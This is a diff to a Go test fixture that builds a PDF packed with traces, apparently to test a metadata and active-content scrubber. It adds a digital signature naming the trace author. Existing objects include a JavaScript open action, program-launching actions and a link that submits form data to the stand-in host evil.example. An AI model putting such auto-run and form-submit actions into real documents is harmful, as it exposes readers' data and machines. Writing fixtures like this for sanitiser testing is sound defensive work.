@@ -124,18 +124,19 @@ func DOCXWithTraces(t testing.TB) []byte {
 // author, a JavaScript open action, document and page additional actions
 // that launch programs, a JavaScript name tree, an embedded file and a
 // file-attachment annotation, a sticky note by her, a link whose next action
-// submits a form, and a photo with GPS drawn on the page. The link to
+// submits a form, her digital signature, and a photo with GPS drawn on the
+// page. The link to
 // https://example.org/source and the photo's pixels stay.
 func PDFWithTraces(t testing.TB) []byte {
 	t.Helper()
 	photo := JPEGWithGPS(t)
 	xmp := `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>` + TraceName + `</dc:creator></x:xmpmeta><?xpacket end="w"?>`
 	objs := []string{
-		1: `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Metadata 6 0 R /AA << /WC 11 0 R >>` +
+		1: `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Metadata 6 0 R /AA << /WC 11 0 R >> /AcroForm << /Fields [16 0 R] /SigFlags 3 >>` +
 			` /Names << /JavaScript << /Names [(init) 5 0 R] >> /EmbeddedFiles << /Names [(secret.txt) 9 0 R] >> >> >>`,
 		2: `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
 		3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /XObject << /Im1 7 0 R >> >>` +
-			` /Annots [8 0 R 10 0 R 14 0 R 15 0 R] /AA << /O 11 0 R >> >>`,
+			` /Annots [8 0 R 10 0 R 14 0 R 15 0 R 16 0 R] /AA << /O 11 0 R >> >>`,
 		4:  "stream:q 128 0 0 96 36 52 cm /Im1 Do Q",
 		5:  `<< /Type /Action /S /JavaScript /JS (app.alert\('` + TraceName + `'\)) >>`,
 		6:  "xmp:" + xmp,
@@ -149,6 +150,9 @@ func PDFWithTraces(t testing.TB) []byte {
 		14: `<< /Type /Annot /Subtype /Text /Rect [40 0 60 20] /T (` + TraceName + `) /Contents (check this) >>`,
 		15: `<< /Type /Annot /Subtype /Link /Rect [60 0 80 20] /A << /S /URI /URI (https://example.org/source)` +
 			` /Next << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >> >>`,
+		16: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [0 0 0 0] /P 3 0 R /F 132 /V 17 0 R >>`,
+		17: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /Name (` + TraceName + `)` +
+			` /Location (calc.exe street) /M (D:20261130224100Z) /ByteRange [0 10 20 10] /Contents <0000> >>`,
 	}
 	return buildPDF(objs, 13, func(o string) string {
 		stream := func(dict, data string) string {
